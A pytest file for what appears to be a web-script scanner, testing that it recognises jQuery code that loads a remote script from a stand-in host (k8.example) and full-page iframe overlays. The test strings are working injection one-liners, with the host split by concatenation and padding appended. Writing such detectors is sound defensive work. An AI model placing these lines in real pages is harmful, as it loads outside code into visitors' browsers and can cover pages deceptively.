"""Elements that jQuery makes, as scripts give them addresses, styles and listeners."""

from __future__ import annotations

import pytest

from scanner.scripts import reckoned

LOADS = [
    "$('<script>',{src:'//'+'k8.example/a.js'}).appendTo('head')",
    "$('<script></script>').attr('src','//'+'k8.example/a.js').appendTo('head')",
    "jQuery('<script/>').attr({async:1,src:'//'+'k8.example/a.js'}).appendTo('head')",
    "$(function(){$('<script>').prop('src','//'+'k8.example/a.js').appendTo('body')})",
]


@pytest.mark.parametrize("code", LOADS)
def test_an_element_is_made_of_a_tag_and_properties(code):
    assert [(act.kind, act.host, act.when) for act in reckoned(f"{code}; /* {'-' * 40} */").acts] == [
        ("load", "k8.example", "opening")
    ]


def near(outer: str, inner: str) -> frozenset[str]:
    code = f"$('<div>',{{css:{outer}}}).append($('<iframe>',{{src:'//'+'k8.example/',{inner}}})).appendTo('body')"
    (act,) = reckoned(code).acts
    return act.near


def test_what_fills_an_element_that_covers_the_page_covers_it():
    whole, part = "{position:'fixed',inset:0}", "{position:'fixed',bottom:0}"
    assert "cover" in near(whole, "width:'100%',height:'100%'")
    assert "cover" not in near(whole, "width:'600',height:'400'")
    assert "cover" not in near(part, "width:'100%',height:'100%'")
